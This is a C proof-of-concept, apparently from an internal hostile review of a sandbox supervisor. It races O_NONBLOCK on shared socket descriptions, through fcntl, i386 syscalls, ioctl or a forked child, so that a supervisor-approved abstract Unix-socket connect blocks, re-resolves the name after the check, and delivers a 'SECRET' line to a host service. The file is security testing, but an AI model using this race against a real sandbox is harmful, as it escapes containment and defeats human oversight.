/* ha27-nbrace.c (hostile review h-attack27, against 1b297f5): the agent
 * for ha27-nbrace.sh. sv_unixpeer_act makes a connect to an abstract name
 * judged "local" nonblocking by setting O_NONBLOCK on the socket's file
 * description, which the agent shares: F_GETFL, F_SETFL(|O_NONBLOCK),
 * connect(). The kernel reads f_flags once, when the connect starts
 * (__sys_connect_file: sock->file->f_flags), so a thread of the agent that
 * keeps clearing O_NONBLOCK on the same description makes one of the
 * supervisor's retries a blocking connect: unix_stream_connect then waits
 * in unix_wait_for_peer for room in the full listener's queue, and on
 * wake-up (the listener's close) goes back to "restart:" and looks the
 * name up again, after every judgement (h-attack25's finding 1b again).
 *
 *   agent NAME [SECONDS]  binds NAME (a stream listener, backlog 0), fills
 *       its queue from a second socket, then from 4 threads connects 4
 *       sockets to NAME, blocking, while another thread clears O_NONBLOCK
 *       on them in a loop. It sees for itself when the supervisor's act waits
 *       in the kernel (/proc/net/unix lists the socket a waiting
 *       unix_stream_connect made for the connection), waits until every
 *       connect is so (or SECONDS, default 6), says so,
 *       closes its listener 0.3 s later and,
 *       for each connect that succeeds, sends a line on that socket. Every
 *       parked connect looks the name up again on the close: the later
 *       ones to run find the host's socket.
 *   squat NAME MARKER  the stand-in host service: binds NAME as soon as
 *       it is free (a service in a restart loop), accepts one connection
 *       and writes what it reads to MARKER.
 */
/* ha28-abi.c (hostile review h-attack28, against 321a0eb): ha27-nbrace.c's
 * agent with the toggler's way of clearing O_NONBLOCK chosen by argv[4]:
 *   fcntl      native fcntl(F_SETFL, 0) (the ha27 form)
 *   fcntl-hi   native fcntl with junk in the high 32 bits of cmd and arg
 *   i386-fcntl int $0x80 fcntl (55) F_SETFL 0
 *   i386-fcntl64 int $0x80 fcntl64 (221) F_SETFL 0
 *   i386-ioctl int $0x80 ioctl (54) FIONBIO 0
 *   ioctl      native ioctl FIONBIO 0
 *   ioctl-dup  native ioctl FIONBIO 0 on a dup'd descriptor
 *   fork       a child process (sharing the descriptions) clears it
 * Everything else as ha27-nbrace.c.
 */
#define _GNU_SOURCE
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <signal.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <sys/mman.h>
#include <unistd.h>

static struct sockaddr_un A;
static socklen_t AL;
#define K 4
static int S[K];
static atomic_int stop;
static unsigned long toggles;

static double since(const struct timespec *t)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)(now.tv_sec - t->tv_sec) + (double)(now.tv_nsec - t->tv_nsec) / 1e9;
}

/* Clears O_NONBLOCK on every S[i] again and again. */
static const char *MODE = "fcntl";

static long i386_call(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	return ret;
}

/* on is in low memory for int $0x80 (a 32-bit pointer). */
static int *low_on;

static void clear_nb(int fd, int dupfd)
{
	if (strcmp(MODE, "fcntl") == 0)
		fcntl(fd, F_SETFL, 0);
	else if (strcmp(MODE, "fcntl-hi") == 0)
		syscall(SYS_fcntl, (long)fd, 0x100000000L | F_SETFL, 0x700000000L);
	else if (strcmp(MODE, "i386-fcntl") == 0)
		i386_call(55, fd, F_SETFL, 0);
	else if (strcmp(MODE, "i386-fcntl64") == 0)
		i386_call(221, fd, F_SETFL, 0);
	else if (strcmp(MODE, "i386-ioctl") == 0)
		i386_call(54, fd, FIONBIO, (long)low_on);
	else if (strcmp(MODE, "ioctl") == 0)
		ioctl(fd, FIONBIO, low_on);
	else if (strcmp(MODE, "ioctl-dup") == 0)
		ioctl(dupfd, FIONBIO, low_on);
}

static void *toggler(void *arg)
{
	int dups[K];

	(void)arg;
	for (int i = 0; i < K; i++)
		dups[i] = dup(S[i]);
	while (!atomic_load(&stop))
		for (int i = 0; i < K; i++) {
			clear_nb(S[i], dups[i]);
			toggles++;
		}
	return NULL;
}

/* Sockets of this network namespace (/proc/net/unix). A connect waiting
 * in the kernel holds the socket it made for the connection (newsk in
 * unix_stream_connect, made before "restart:"); a nonblocking try frees it
 * at once. */
static int sockets_now(void)
{
	char line[512];
	FILE *f = fopen("/proc/net/unix", "r");
	int n = -1;

	while (f && fgets(line, sizeof(line), f))
		n++;
	if (f)
		fclose(f);
	return n;
}

static int parked_now(int base)
{
	int least = 1 << 30;

	for (int i = 0; i < 5; i++) {
		int n = sockets_now() - base;

		least = n < least ? n : least;
		usleep(20000);
	}
	return least;
}

static atomic_int connected;

static void *idle(void *arg)
{
	(void)arg;
	return NULL;
}

static void *connecter(void *arg)
{
	const char *msg = "SECRET-from-the-run\n";
	int i = (int)(long)arg, rc = connect(S[i], (struct sockaddr *)&A, AL);

	if (rc == 0) {
		atomic_fetch_add(&connected, 1);
		rc = (int)send(S[i], msg, strlen(msg), MSG_NOSIGNAL);
		fprintf(stderr, "agent: connect %d: connected, send %d %s\n", i, rc,
			rc < 0 ? strerror(errno) : "");
	} else {
		fprintf(stderr, "agent: connect %d: %s\n", i, strerror(errno));
	}
	return NULL;
}

static int agent(int secs)
{
	int own = socket(AF_UNIX, SOCK_STREAM, 0), fill = socket(AF_UNIX, SOCK_STREAM, 0);
	int base, parked = 0;
	pthread_t t, c[K];
	struct timespec t0;

	if (bind(own, (struct sockaddr *)&A, AL) != 0 || listen(own, 0) != 0) {
		perror("agent bind");
		return 1;
	}
	if (connect(fill, (struct sockaddr *)&A, AL) != 0)
		perror("agent fill connect");
	for (int i = 0; i < K; i++)
		S[i] = socket(AF_UNIX, SOCK_STREAM, 0);
	base = sockets_now();
	clock_gettime(CLOCK_MONOTONIC, &t0);
	pid_t kid = -1;

	if (strcmp(MODE, "fork") == 0) {
		kid = fork();
		if (kid == 0) {
			for (;;)
				for (int i = 0; i < K; i++)
					fcntl(S[i], F_SETFL, 0);
		}
		pthread_create(&t, NULL, idle, NULL);
	} else {
		pthread_create(&t, NULL, toggler, NULL);
	}
	for (long i = 0; i < K; i++)
		pthread_create(&c[i], NULL, connecter, (void *)i);
	/* Until every connect waits in the kernel, or SECONDS. */
	while (since(&t0) < secs && (parked = parked_now(base)) < K)
		;
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	if (kid > 0) {
		kill(kid, SIGKILL);
		waitpid(kid, NULL, 0);
	}
	fprintf(stderr, "agent: %.1f s, %lu toggles, %d of %d connects parked in the kernel\n",
		since(&t0), toggles, parked, K);
	/* The busy host stand-in is started by the script when it sees the
	 * line above; a real one restarts on its own. */
	usleep(300000);
	fprintf(stderr, "agent: closing its listener\n");
	close(own);
	for (int i = 0; i < K; i++)
		pthread_join(c[i], NULL);
	close(fill);
	return 0;
}

static int squat(const char *marker)
{
	int s = socket(AF_UNIX, SOCK_STREAM, 0), c;
	unsigned long tries = 0;
	char buf[256];
	ssize_t n;
	FILE *f;

	while (bind(s, (struct sockaddr *)&A, AL) != 0) {
		if (errno != EADDRINUSE) {
			perror("squat bind");
			return 1;
		}
		tries++;
	}
	fprintf(stderr, "stand-in host service: bound after %lu tries\n", tries);
	listen(s, 16);
	c = accept(s, NULL, NULL);
	n = read(c, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = 0;
	f = fopen(marker, "w");
	if (f) {
		fprintf(f, "host service got: %s", buf);
		fclose(f);
	}
	return 0;
}

int main(int argc, char **argv)
{
	size_t n;

	if (argc < 3 || argv[2][0] != '@')
		return 2;
	n = strlen(argv[2] + 1);
	A.sun_family = AF_UNIX;
	memcpy(A.sun_path + 1, argv[2] + 1, n);
	AL = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	low_on = mmap((void *)0x10000, 4096, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (low_on == MAP_FAILED)
		low_on = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	*low_on = 0;
	if (argc > 4)
		MODE = argv[4];
	if (strcmp(argv[1], "agent") == 0)
		return agent(argc > 3 ? atoi(argv[3]) : 2);
	if (strcmp(argv[1], "squat") == 0 && argc > 3)
		return squat(argv[3]);
	return 2;
}
